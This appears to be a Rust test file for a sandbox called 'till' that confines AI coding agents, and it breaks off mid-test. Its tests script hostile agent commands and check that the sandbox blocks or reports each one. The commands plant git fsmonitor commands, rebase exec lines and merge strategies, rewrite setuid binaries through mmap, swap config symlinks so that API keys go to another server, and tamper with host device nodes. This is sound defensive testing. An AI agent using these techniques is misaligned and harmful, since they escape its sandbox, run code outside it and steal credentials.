    assert!(!git_status(), "git ran the agent's command");
}

/// till's files reachable by another name: a `config.toml` linked from a dotfiles repository
/// the agent works in is hidden there too (the agent could otherwise rewrite it and send the
/// next run's root keys to a server of its own); a link to nothing, which the agent could
/// create, and a hard link, whose other name cannot be found, refuse the run.
#[test]
fn tills_files_linked_from_the_working_directory_stay_out_of_the_agents_reach() {
    let p = proxy_env();
    let proj = project();
    let dotfiles = proj.path().join("dotfiles");
    std::fs::create_dir(&dotfiles).unwrap();
    let linked = dotfiles.join("config.toml");
    let config = p.env.path("config.toml");
    std::fs::rename(&config, &linked).unwrap();
    std::os::unix::fs::symlink(&linked, &config).unwrap();
    let before = std::fs::read_to_string(&linked).unwrap();
    let agent = "echo read=$(grep -c base_url dotfiles/config.toml); \
        echo '[providers.openai]' >> dotfiles/config.toml; echo wrote=$?";
    // Without the sandbox the agent reads and rewrites till's config.
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--no-sandbox", agent);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stdout.contains("read=3") && stdout.contains("wrote=0"),
        "{stdout}"
    );
    std::fs::write(&linked, &before).unwrap();
    // With it, it reads nothing there and its write goes nowhere (`/dev/null` is what it sees).
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", agent);
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("read=0"), "{stdout}");
    assert_eq!(std::fs::read_to_string(&linked).unwrap(), before);

    // A link to what does not exist yet: refused before the agent runs.
    let missing = p.env.path("data/prices.json");
    std::os::unix::fs::symlink(dotfiles.join("prices.json"), &missing).unwrap();
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", "echo ran");
    assert_eq!(code, 2, "{stderr}");
    assert!(!stdout.contains("ran"), "{stdout}");
    assert!(stderr.contains("does not exist"), "{stderr}");
    assert!(stderr.contains("hint:"), "{stderr}");
    std::fs::remove_file(&missing).unwrap();

    // A hard link: the same.
    std::fs::remove_file(&config).unwrap();
    std::fs::rename(&linked, &config).unwrap();
    std::fs::hard_link(&config, &linked).unwrap();
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", "echo ran");
    assert_eq!(code, 2, "{stderr}");
    assert!(!stdout.contains("ran"), "{stdout}");
    assert!(stderr.contains("another name"), "{stderr}");
    std::fs::remove_file(&linked).unwrap();
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", "echo ran");
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("ran"), "{stdout}");
}

/// A file under a cover of its own that a program outside replaces during the run (git
/// writes `.git/config` by renaming a new file over it) takes the cover with it: the agent
/// could write the new one from then on. The run's end names it.
#[test]
fn a_covered_file_replaced_from_outside_during_the_run_is_named_at_the_end() {
    let p = proxy_env();
    let proj = project();
    let agent = "touch ready; while [ ! -e go ]; do sleep 0.05; done; \
        printf '[x]\\n\\ty = 1\\n' >> .git/config && echo wrote";
    let run = |replace: bool| {
        let _ = std::fs::remove_file(proj.path().join("ready"));
        let _ = std::fs::remove_file(proj.path().join("go"));
        let child = p
            .env
            .till()
            .args(["run", "--sandbox", "--", "sh", "-c", agent])
            .current_dir(proj.path())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let deadline = Instant::now() + Duration::from_secs(20);
        while !proj.path().join("ready").exists() {
            assert!(Instant::now() < deadline, "the agent did not start");
            std::thread::sleep(Duration::from_millis(20));
        }
        if replace {
            git(proj.path(), &["config", "user.name", "someone"]);
        }
        std::fs::write(proj.path().join("go"), "").unwrap();
        let out = child.wait_with_output().unwrap();
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    // Left alone, the cover holds: the agent's write fails, and nothing is said.
    let (stdout, stderr) = run(false);
    assert!(!stdout.contains("wrote"), "{stdout}");
    assert!(!stderr.contains("was replaced"), "{stderr}");
    // Replaced from outside, the cover is gone: the end of the run says so.
    let (_, stderr) = run(true);
    let config = std::fs::canonicalize(proj.path())
        .unwrap()
        .join(".git/config");
    assert!(
        stderr.contains(&format!("{} was replaced during the run", config.display())),
        "{stderr}"
    );
}

/// Hooks kept in the project (`core.hooksPath = .husky`) and config included from it are files
/// the agent may write, which git runs at the next commit (or any git command) outside the
/// sandbox: the run says so.
#[test]
fn hooks_kept_in_the_project_are_named_at_the_start() {
    let p = proxy_env();
    let proj = project();
    let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", "true");
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("core.hooksPath"), "{stderr}");
    git(proj.path(), &["config", "core.hooksPath", ".husky"]);
    let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", "true");
    assert_eq!(code, 0, "{stderr}");
    let hooks = std::fs::canonicalize(proj.path()).unwrap().join(".husky");
    assert!(
        stderr.contains(&format!(
            "core.hooksPath is {}, where the agent may write",
            hooks.display()
        )),
        "{stderr}"
    );
    // Config included from the project: git runs what it sets (`core.fsmonitor`).
    git(proj.path(), &["config", "include.path", "../.gitconfig"]);
    let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", "true");
    assert_eq!(code, 0, "{stderr}");
    let included = std::fs::canonicalize(proj.path())
        .unwrap()
        .join(".gitconfig");
    assert!(
        stderr.contains(&format!(
            "include.path is {}, where the agent may write",
            included.display()
        )),
        "{stderr}"
    );
    git(proj.path(), &["config", "--unset", "include.path"]);
    git(
        proj.path(),
        &["config", "includeIf.gitdir:/.path", "../.gitconfig"],
    );
    let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", "true");
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains(&format!(
            "includeif.gitdir:/.path is {}, where the agent may write",
            included.display()
        )),
        "{stderr}"
    );
    git(
        proj.path(),
        &["config", "--unset", "includeIf.gitdir:/.path"],
    );
    // A linked worktree of the repository reads the main repository's config, with its hooks
    // path taken from the worktree's top.
    git_commit(proj.path());
    let trees = outside_tmp();
    let tree = trees.path().join("wt");
    git(
        proj.path(),
        &["worktree", "add", "-q", &tree.display().to_string()],
    );
    let (code, _, stderr) = run_sh(&p, &tree, "--sandbox", "true");
    assert_eq!(code, 0, "{stderr}");
    let tree_hooks = std::fs::canonicalize(&tree).unwrap().join(".husky");
    assert!(
        stderr.contains(&format!(
            "core.hooksPath is {}, where the agent may write",
            tree_hooks.display()
        )),
        "{stderr}"
    );
    // Hooks outside the agent's reach say nothing.
    let outside = outside_tmp();
    git(
        proj.path(),
        &[
            "config",
            "core.hooksPath",
            &outside.path().display().to_string(),
        ],
    );
    let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", "true");
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("core.hooksPath"), "{stderr}");
    // Commands the config names by a path in the project: a clean filter, a textconv, an
    // alias; git runs them as the agent left them. One found on PATH says nothing.
    let real = std::fs::canonicalize(proj.path()).unwrap();
    for (setting, value, named) in [
        (
            "filter.strip.clean",
            "tools/clean.sh --quiet",
            "tools/clean.sh",
        ),
        ("diff.pdf.textconv", "\"./bin/pdf text\" -x", "bin/pdf text"),
        ("alias.st", "!scripts/st.sh", "scripts/st.sh"),
        ("filter.y.clean", "sh scripts/y.sh", "scripts/y.sh"),
    ] {
        git(proj.path(), &["config", setting, value]);
        let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", "true");
        assert_eq!(code, 0, "{stderr}");
        assert!(
            stderr.contains(&format!(
                "{setting} runs {}, where the agent may write",
                real.join(named).display()
            )),
            "{setting}: {stderr}"
        );
        git(proj.path(), &["config", "--unset", setting]);
    }
    git(proj.path(), &["config", "core.pager", "less -R"]);
    // A hook in .git/hooks, read-only in the sandbox, as git's own example sets it.
    git(
        proj.path(),
        &["config", "core.fsmonitor", ".git/hooks/fsmonitor-watchman"],
    );
    let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", "true");
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("core.pager"), "{stderr}");
    assert!(!stderr.contains("core.fsmonitor"), "{stderr}");
}

/// Your global git config naming hooks or an included file in the project is named too: git
/// reads it in this repository as in any.
#[test]
fn hooks_named_by_the_global_git_config_are_named_at_the_start() {
    let p = proxy_env();
    let proj = project();
    let outside = outside_tmp();
    let global = outside.path().join("gitconfig");
    let run = |global: &Path| {
        output(
            p.env
                .till()
                .args(["run", "--sandbox", "--", "true"])
                .env("GIT_CONFIG_GLOBAL", global)
                .current_dir(proj.path())
                .stdin(Stdio::null()),
        )
    };
    std::fs::write(&global, "[user]\n\tname = someone\n").unwrap();
    let (code, _, stderr) = run(&global);
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("where the agent may write"), "{stderr}");
    let real = std::fs::canonicalize(proj.path()).unwrap();
    std::fs::write(
        &global,
        format!(
            "[core]\n\thooksPath = .githooks\n[include]\n\tpath = {}/shared.gitconfig\n",
            real.display()
        ),
    )
    .unwrap();
    let (code, _, stderr) = run(&global);
    assert_eq!(code, 0, "{stderr}");
    for (setting, path) in [
        ("core.hooksPath", real.join(".githooks")),
        ("include.path", real.join("shared.gitconfig")),
    ] {
        assert!(
            stderr.contains(&format!(
                "{setting} is {}, where the agent may write",
                path.display()
            )),
            "{setting}: {stderr}"
        );
    }
    // A global config that is a link (a dotfiles manager's), and settings in files it
    // includes, two levels down, from outside the project.
    let dots = outside.path().join("dots");
    std::fs::create_dir(&dots).unwrap();
    std::fs::write(
        dots.join("gitconfig"),
        // (git takes a relative include from the directory of the file's name: the link's.)
        format!("[include]\n\tpath = {}/more.gitconfig\n", dots.display()),
    )
    .unwrap();
    std::fs::write(
        dots.join("more.gitconfig"),
        "[includeIf \"gitdir:/\"]\n\tpath = most.gitconfig\n",
    )
    .unwrap();
    std::fs::write(
        dots.join("most.gitconfig"),
        "[core]\n\thooksPath = .husky\n",
    )
    .unwrap();
    let linked = outside.path().join("linked-gitconfig");
    std::os::unix::fs::symlink(dots.join("gitconfig"), &linked).unwrap();
    let (code, _, stderr) = run(&linked);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains(&format!(
            "most.gitconfig: core.hooksPath is {}, where the agent may write",
            real.join(".husky").display()
        )),
        "{stderr}"
    );
}

/// The sandbox's device nodes are binds of the host's: writable binds let the agent change
/// the host's nodes' modes and times (`chmod 000 /dev/null` from a root till's agent broke
/// every other program). They are read-only binds: the devices work, their modes stay.
#[test]
fn the_agent_cannot_change_the_hosts_device_nodes() {
    use std::os::unix::fs::MetadataExt as _;
    let p = proxy_env();
    let proj = project();
    let before = std::fs::metadata("/dev/full").unwrap();
    let (code, stdout, stderr) = run_sh(
        &p,
        proj.path(),
        "--sandbox",
        "echo x > /dev/null && echo null-ok; \
         chmod 0600 /dev/full 2>/dev/null || echo chmod-refused; \
         touch -d 2001-01-01 /dev/full 2>/dev/null || echo touch-refused",
    );
    let after = std::fs::metadata("/dev/full").unwrap();
    // Put the host's node back before anything is asserted, should the agent have changed it.
    if (before.mode(), before.mtime()) != (after.mode(), after.mtime()) {
        use std::os::unix::fs::PermissionsExt as _;
        let _ = std::fs::set_permissions(
            "/dev/full",
            std::fs::Permissions::from_mode(before.mode() & 0o7777),
        );
        let _ = Command::new("touch")
            .args(["-m", "-d", &format!("@{}", before.mtime()), "/dev/full"])
            .status();
    }
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stdout.contains("null-ok")
            && stdout.contains("chmod-refused")
            && stdout.contains("touch-refused"),
        "{stdout}"
    );
    assert_eq!(before.mode(), after.mode());
    assert_eq!(before.mtime(), after.mtime());
}

/// System V shared memory is kept by IPC namespace, not by file: the agent gets one of its own,
/// so a segment another process of yours made (a database's buffers, a secret an app keeps
/// there) is neither listed nor attachable inside.
#[test]
fn the_users_system_v_shared_memory_is_out_of_the_agents_sight() {
    let p = proxy_env();
    let proj = project();
    let made = Command::new("ipcmk")
        .args(["-M", "4096"])
        .output()
        .expect("ipcmk (util-linux) runs");
    let said = String::from_utf8_lossy(&made.stdout).into_owned();
    let id: String = said.chars().filter(char::is_ascii_digit).collect();
    assert!(made.status.success() && !id.is_empty(), "{said}");
    // Lists the segments' ids (the second column of /proc/sysvipc/shm).
    let agent = "awk 'NR > 1 { print \"id=\" $2 }' /proc/sysvipc/shm";
    let seen = |sandbox: &str| {
        let (code, stdout, stderr) = run_sh(&p, proj.path(), sandbox, agent);
        assert_eq!(code, 0, "{stderr}");
        stdout.lines().any(|l| l == format!("id={id}"))
    };
    let outside = seen("--no-sandbox");
    let inside = seen("--sandbox");
    Command::new("ipcrm").args(["-m", &id]).status().unwrap();
    assert!(outside, "the control run did not see segment {id}");
    assert!(!inside, "the agent saw segment {id}");
}

/// A link on the way to till's files that the agent may rewrite (a dotfiles directory that is
/// itself a link in the project, a `TILL_HOME` that is a link in the project): the agent could
/// point it at a config of its own, whose `base_url` would get the root key on till's next
/// run, so the run is refused before the agent starts.
#[test]
fn a_link_the_agent_could_turn_on_the_way_to_tills_files_refuses_the_run() {
    let p = proxy_env();
    let proj = project();
    let outside = outside_tmp();
    let config = p.env.path("config.toml");
    let text = std::fs::read_to_string(&config).unwrap();
    // config.toml → PROJECT/dotfiles/config.toml, where PROJECT/dotfiles → a directory
    // outside: the target is hidden, but the agent could replace `dotfiles`.
    let real = outside.path().join("dots");
    std::fs::create_dir(&real).unwrap();
    std::fs::write(real.join("config.toml"), &text).unwrap();
    std::os::unix::fs::symlink(&real, proj.path().join("dotfiles")).unwrap();
    std::fs::remove_file(&config).unwrap();
    std::os::unix::fs::symlink(proj.path().join("dotfiles/config.toml"), &config).unwrap();
    let swap = "rm dotfiles && mkdir dotfiles && echo planted > dotfiles/config.toml; echo ran";
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", swap);
    assert_eq!(code, 2, "{stdout} {stderr}");
    assert!(!stdout.contains("ran"), "{stdout}");
    assert!(
        stderr.contains(&format!(
            "{} is a symbolic link on the way to",
            proj.path().join("dotfiles").display()
        )),
        "{stderr}"
    );
    assert!(stderr.contains("hint:"), "{stderr}");
    assert!(proj.path().join("dotfiles").is_symlink());
    // The same link outside the project: the run goes, and the agent's swap fails.
    std::fs::remove_file(&config).unwrap();
    let beside = outside.path().join("dotfiles");
    std::os::unix::fs::symlink(&real, &beside).unwrap();
    std::os::unix::fs::symlink(beside.join("config.toml"), &config).unwrap();
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", "echo ran");
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("ran"), "{stdout}");
    std::fs::remove_file(&config).unwrap();
    std::fs::write(&config, &text).unwrap();

    // config.toml → PROJECT/sub/../dots/config.toml: no link in the project, but the agent
    // could make `sub` one (`..` is taken from where it leads), and no cover pins it.
    std::fs::create_dir(proj.path().join("sub")).unwrap();
    std::fs::create_dir(proj.path().join("dots")).unwrap();
    std::fs::write(proj.path().join("dots/config.toml"), &text).unwrap();
    std::fs::remove_file(&config).unwrap();
    std::os::unix::fs::symlink(proj.path().join("sub/../dots/config.toml"), &config).unwrap();
    let (code, stdout, stderr) = run_sh(&p, proj.path(), "--sandbox", "echo ran");
    assert_eq!(code, 2, "{stdout} {stderr}");
    assert!(!stdout.contains("ran"), "{stdout}");
    assert!(
        stderr.contains(&format!(
            "{} is a symbolic link",
            proj.path().join("sub").display()
        )),
        "{stderr}"
    );
    std::fs::remove_file(&config).unwrap();
    std::fs::write(&config, &text).unwrap();

    // TILL_HOME named by a link in the project.
    let home_link = proj.path().join(".till");
    std::os::unix::fs::symlink(p.env.home(), &home_link).unwrap();
    let (code, stdout, stderr) = output(
        p.env
            .till()
            .env("TILL_HOME", &home_link)
            .args(["run", "--sandbox", "--", "sh", "-c", "echo ran"])
            .current_dir(proj.path())
            .stdin(Stdio::null()),
    );
    assert_eq!(code, 2, "{stdout} {stderr}");
    assert!(!stdout.contains("ran"), "{stdout}");
    assert!(
        stderr.contains(&format!(
            "{} is a symbolic link on the way to",
            home_link.display()
        )),
        "{stderr}"
    );
}

/// In a repository with `extensions.worktreeConfig`, git reads `.git/config.worktree` as
/// config, `core.fsmonitor` (a command it runs) included. Where there is none the agent could
/// create one: the sandbox makes it empty and read-only for the run, and takes it away after.
#[test]
fn a_worktree_config_the_agent_would_plant_in_git_is_never_written() {
    let p = proxy_env();
    let proj = project();
    git(
        proj.path(),
        &["config", "core.repositoryformatversion", "1"],
    );
    git(
        proj.path(),
        &["config", "extensions.worktreeConfig", "true"],
    );
    let agent = "printf '[core]\\n\\tfsmonitor = \"touch planted; echo\"\\n' > .git/config.worktree; \
        echo wrote=$?";
    let run = |sandbox: &str| run_sh(&p, proj.path(), sandbox, agent);
    let file = proj.path().join(".git/config.worktree");
    let git_status = || git_status_runs_plant(proj.path());
    // Without the sandbox the plant works: git runs the agent's command.
    let (code, stdout, stderr) = run("--no-sandbox");
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("wrote=0"), "{stdout}");
    assert!(git_status(), "the control plant did not run");
    std::fs::remove_file(&file).unwrap();
    std::fs::remove_file(proj.path().join("planted")).unwrap();
    // With it the write fails, the stand-in is gone when till returns, and git runs nothing.
    let (code, stdout, stderr) = run("--sandbox");
    assert_eq!(code, 0, "{stderr}");
    assert!(!stdout.contains("wrote=0"), "{stdout}");
    assert!(!file.exists(), "the stand-in was left");
    assert!(!git_status(), "git ran the agent's command");
    // One that was there before the run stays, as it was.
    std::fs::write(&file, "[user]\n\tname = kept\n").unwrap();
    let (code, stdout, stderr) = run("--sandbox");
    assert_eq!(code, 0, "{stderr}");
    assert!(!stdout.contains("wrote=0"), "{stdout}");
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "[user]\n\tname = kept\n"
    );
    assert!(!git_status(), "git ran the agent's command");
}

/// The file's set-ID bits, and whether it has file capabilities.
fn privileges(path: &Path) -> (u32, bool) {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = std::fs::metadata(path).unwrap().permissions().mode() & 0o6000;
    let name = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a NUL-terminated path and name, and a null buffer of size 0 (a size query).
    let caps = unsafe {
        libc::getxattr(
            name.as_ptr(),
            c"security.capability".as_ptr(),
            std::ptr::null_mut(),
            0,
        )
    } >= 0;
    (mode, caps)
}

/// Gives `path` the file capability `cap_net_raw+ep` (VFS_CAP_REVISION_2); false where this
/// process may not (only root may, so only a root till's agent could keep one).
fn give_capabilities(path: &Path) -> bool {
    let name = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    let mut value = Vec::new();
    for word in [0x0200_0001u32, 1 << 13, 0, 0, 0] {
        value.extend_from_slice(&word.to_le_bytes());
    }
    // SAFETY: a NUL-terminated path and name, and a buffer of the length given.
    let set = unsafe {
        libc::setxattr(
            name.as_ptr(),
            c"security.capability".as_ptr(),
            value.as_ptr().cast(),
            value.len(),
            0,
        )
    };
    set == 0
}

#[test]
fn a_program_the_agent_rewrites_through_a_mapping_loses_its_privileges() {
    use std::os::unix::fs::PermissionsExt as _;
    let p = proxy_env();
    let proj = project();
    let dir = proj.path();
    let make = |name: &str, mode: u32| {
        let path = dir.join(name);
        std::fs::write(&path, b"#!/bin/sh\necho the owner's program\n").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
        path
    };
    let setuid = make("setuid", 0o4755);
    let setgid = make("setgid", 0o2755);
    let untouched = make("untouched", 0o4755);
    let capable = make("capable", 0o755);
    let with_caps = give_capabilities(&capable);
    // The agent writes through shared mappings (which keep the bits, where write(2) clears
    // them), and hides `setgid` 150 directories down (deeper than till may hold descriptors
    // open, below); `untouched` it only reads.
    let agent = format!(
        "{} -c \"import mmap, os, sys\nfor name in ['setuid', 'setgid', 'capable']:\n    fd = os.open(name, os.O_RDWR)\n    m = mmap.mmap(fd, 0)\n    m[0:9] = b'#!/bin/sh'\n    m[10:14] = b'echo'\n    m[15:18] = b'pwn'\n    m.flush()\nos.makedirs('{deep}', exist_ok=True)\nos.rename('setgid', '{deep}/setgid')\nopen('untouched', 'rb').read()\"",
        python(),
        deep = ["d"; 150].join("/")
    );
    let setgid_deep = dir.join(["d"; 150].join("/")).join("setgid");
    // Older change times for what was set up (till counts a little before the run as the
    // run's, for clocks that lag and filesystems that keep whole seconds).
    std::thread::sleep(std::time::Duration::from_millis(2200));
    // Without the sandbox the write keeps the bits and capabilities: the attack is real here.
    let (code, _, stderr) = run_sh(&p, dir, "--no-sandbox", &agent);
    assert_eq!(code, 0, "{stderr}");
    assert!(std::fs::read_to_string(&setuid).unwrap().contains("pwn"));
    assert_eq!(privileges(&setuid), (0o4000, false));
    assert_eq!(privileges(&setgid_deep), (0o2000, false));
    assert_eq!(privileges(&capable), (0, with_caps));
    std::fs::rename(&setgid_deep, &setgid).unwrap();
    // Inside it the rewrite goes through the same way, and till takes them off at the end,
    // with 40 descriptors at most (till holds about 24 of them by then).
    let mut cmd = p.env.till();
    cmd.args(["run", "--sandbox", "--", "sh", "-c", &agent])
        .current_dir(dir)
        .stdin(Stdio::null());
    // SAFETY: setrlimit is async-signal-safe; the limit is the child's own.
    unsafe {
        use std::os::unix::process::CommandExt as _;
        cmd.pre_exec(|| {
            let limit = libc::rlimit {
                rlim_cur: 40,
                rlim_max: 40,
            };
            if libc::setrlimit(libc::RLIMIT_NOFILE, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let (code, _, stderr) = output(&mut cmd);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(privileges(&setuid), (0, false), "{stderr}");
    assert_eq!(privileges(&setgid_deep), (0, false), "{stderr}");
    assert_eq!(privileges(&capable), (0, false), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "took the set-user-ID bit off {}: it changed during the run",
            setuid.display()
        )),
        "{stderr}"
    );
    assert!(
        // The path, 300 bytes of `d/`, is shown cut in the middle.
        stderr.contains(&format!(
            "took the set-group-ID bit off {}/d/d/d/",
            dir.display()
        )) && stderr.contains("/d/d/setgid: it changed during the run")
            && stderr.contains('…'),
        "{stderr}"
    );
    assert_eq!(
        stderr.contains(&format!(
            "took the file capabilities off {}",
            capable.display()
        )),
        with_caps,
        "{stderr}"
    );
    // What the agent did not change keeps its bit, and the rest of its mode.
    assert_eq!(privileges(&untouched), (0o4000, false), "{stderr}");
    assert!(!stderr.contains("untouched"), "{stderr}");
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
    assert_eq!((mode(&setuid), mode(&setgid_deep)), (0o755, 0o755));
    assert!(!stderr.contains("could not look"), "{stderr}");
}

#[test]
fn a_head_the_agent_breaks_is_put_back() {
    let p = proxy_env();
    let proj = project();
    // A bare repository's layout at the top of the working directory, with a config that runs
    // a command, and `.git/HEAD` broken so that git stops taking `.git` for the repository.
    let agent = "mkdir -p objects/info refs/heads && echo \"$PWD/.git/objects\" > objects/info/alternates \
        && cat .git/HEAD > HEAD && cp .git/refs/heads/* refs/heads/ && cp .git/index index \
        && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"touch planted; false\"\\n' > config \
        && echo 'not a ref' > .git/HEAD";
    let run = |sandbox: &str| run_sh(&p, proj.path(), sandbox, agent);
    git_commit(proj.path());
    let head = proj.path().join(".git/HEAD");
    let before = std::fs::read_to_string(&head).unwrap();
    let git_status = || git_status_runs_plant(proj.path());
    // Without the sandbox the plant works: git runs the agent's command.
    let (code, _, stderr) = run("--no-sandbox");
    assert_eq!(code, 0, "{stderr}");
    assert!(git_status(), "the control plant did not run");
    std::fs::write(&head, &before).unwrap();
    std::fs::remove_file(proj.path().join("planted")).unwrap();
    // With it, HEAD is as it was when till returns, and git reads `.git` again.
    let (code, _, stderr) = run("--sandbox");
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("as it was before the run"), "{stderr}");
    assert_eq!(std::fs::read_to_string(&head).unwrap(), before);
    assert!(!git_status(), "git ran the agent's command");
}

#[test]
fn a_rebase_the_agent_leaves_with_commands_is_named() {
    let p = proxy_env();
    let proj = project();
    git_commit(proj.path());
    // A rebase in progress whose todo list runs a command at `git rebase --continue` (with an
    // escape sequence after it, for the terminal that shows the warning).
    let agent = "mkdir -p .git/rebase-merge && git symbolic-ref HEAD > .git/rebase-merge/head-name \
        && git rev-parse HEAD > .git/rebase-merge/onto && git rev-parse HEAD > .git/rebase-merge/orig-head \
        && touch .git/rebase-merge/interactive .git/rebase-merge/done \
        && printf 'exec touch planted # \\033[2K\\n' > .git/rebase-merge/git-rebase-todo";
    let stderr = sandboxed(&p, proj.path(), agent);
    let rebase = proj.path().join(".git/rebase-merge");
    assert!(
        stderr.contains(&format!(
            "the agent left a rebase in progress in {}: `git rebase --continue` does what the files there say, and its todo list runs 1 command (touch planted # \\u{{1b}}[2K); read them first, or end it with `git rebase --abort`",
            rebase.display()
        )),
        "{stderr}"
    );
    // What it warns of: the next `git rebase --continue` runs it.
    assert!(git_runs_plant(proj.path(), &["rebase", "--continue"]));
    // A rebase, `git am`, cherry-pick or revert in progress is named without a command too:
    // `--continue` does what its files say.
    for (dir, what) in [
        ("rebase-merge", "a rebase"),
        ("rebase-apply", "a rebase or `git am`"),
        ("sequencer", "a cherry-pick or revert"),
    ] {
        let agent = format!("mkdir -p .git/{dir} && : > .git/{dir}/git-rebase-todo");
        let stderr = sandboxed(&p, proj.path(), &agent);
        let state = proj.path().join(".git").join(dir);
        assert!(
            stderr.contains(&format!(
                "the agent left {what} in progress in {}: ",
                state.display()
            )),
            "{stderr}"
        );
        assert!(!stderr.contains("runs"), "{stderr}");
        std::fs::remove_dir_all(state).unwrap();
    }
}

/// Runs `git ARGS` in `dir` as you would after the run (with a committer, and no editor to
/// wait for); whether it ran the agent's plant (a command that creates `planted`). What git
/// said is printed, for a test that fails.
#[test]
fn a_rebase_in_progress_before_the_run_is_named_once_the_agent_changes_it() {
    let p = proxy_env();
    let proj = project();
    let dir = proj.path();
    git_commit(dir);
    // You stopped a rebase and start the agent to resolve it: its todo list is yours.
    let state = "mkdir -p .git/rebase-merge && git symbolic-ref HEAD > .git/rebase-merge/head-name \
        && git rev-parse HEAD > .git/rebase-merge/onto && git rev-parse HEAD > .git/rebase-merge/orig-head \
        && touch .git/rebase-merge/interactive .git/rebase-merge/done .git/rebase-merge/git-rebase-todo";
    let out = Command::new("sh")
        .args(["-c", state])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    // An agent that leaves it alone: nothing to say.
    let stderr = sandboxed(&p, dir, "cat .git/rebase-merge/git-rebase-todo");
    assert!(!stderr.contains("rebase"), "{stderr}");
    // One that adds a command, and puts the file's modification time back.
    let agent = "t=.git/rebase-merge/git-rebase-todo && m=$(stat -c %y $t) \
        && echo 'exec touch planted' >> $t && touch -d \"$m\" $t";
    let stderr = sandboxed(&p, dir, agent);
    assert!(
        stderr.contains("the agent changed a rebase in progress in"),
        "{stderr}"
    );
    assert!(stderr.contains("(touch planted)"), "{stderr}");
    assert!(git_runs_plant(dir, &["rebase", "--continue"]));
}

fn git_runs_plant(dir: &Path, args: &[&str]) -> bool {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .current_dir(dir)
        .env("GIT_EDITOR", "true")
        .env_remove("GIT_DIR")
        .output()
        .expect("git runs");
    eprintln!("git {args:?}: {out:?}");
    dir.join("planted").exists()
}

/// An agent's shell commands with a committer set.
const AS_AGENT: &str =
    "export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a; ";

/// A program of the agent's that git runs as the merge strategy `x/../evil`
/// (`git merge-x/../evil`).
const EVIL_STRATEGY: &str =
    "mkdir git-merge-x && printf '#!/bin/sh\\ntouch planted\\nexit 1\\n' > evil && chmod +x evil";

/// Commits a new file `name` in the repository at `dir`.
fn commit_file(dir: &Path, name: &str) {
    std::fs::write(dir.join(name), format!("{name}\n")).unwrap();
    git(dir, &["add", name]);
    git(dir, &["commit", "-qm", name]);
}

#[test]
fn a_rebase_whose_todo_list_is_kept_from_till_is_named() {
    let p = proxy_env();
    // A rebase stopped at `break`, whose todo list's `exec` line is then hidden from till:
    // behind a symbolic link, past till's limit (git reads up to the first NUL), or in a
    // directory behind a link.
    for (hide, said) in [
        (
            "mv .git/rebase-merge/git-rebase-todo notes.txt && ln -s ../../notes.txt .git/rebase-merge/git-rebase-todo",
            "git-rebase-todo (it is a symbolic link), a todo list whose `exec` lines git runs",
        ),
        (
            "truncate -s 300M .git/rebase-merge/git-rebase-todo",
            "its todo list runs 1 command (touch planted)",
        ),
        (
            "mv .git/rebase-merge state && ln -s ../state .git/rebase-merge",
            "it is a symbolic link, which git follows, so till did not read what it holds",
        ),
    ] {
        let proj = project();
        let dir = proj.path();
        git_commit(dir);
        commit_file(dir, "B");
        let agent = format!(
            "{AS_AGENT}GIT_SEQUENCE_EDITOR=\"printf 'break\\nexec touch planted\\n' >\" git rebase -q -i HEAD~1 && {hide}"
        );
        let stderr = sandboxed(&p, dir, &agent);
        assert!(
            stderr.contains(&format!(
                "the agent left a rebase in progress in {}: `git rebase --continue` does what the files there say, and ",
                dir.join(".git/rebase-merge").display()
            )),
            "{stderr}"
        );
        assert!(stderr.contains(said), "{stderr}");
        // A run that finds it there leaves it unnamed.
        let stderr = sandboxed(&p, dir, "true");
        assert!(!stderr.contains("warning"), "{stderr}");
        assert!(git_runs_plant(dir, &["rebase", "--continue"]));
    }
}

#[test]
fn a_merge_strategy_that_runs_the_agents_program_is_named() {
    let p = proxy_env();
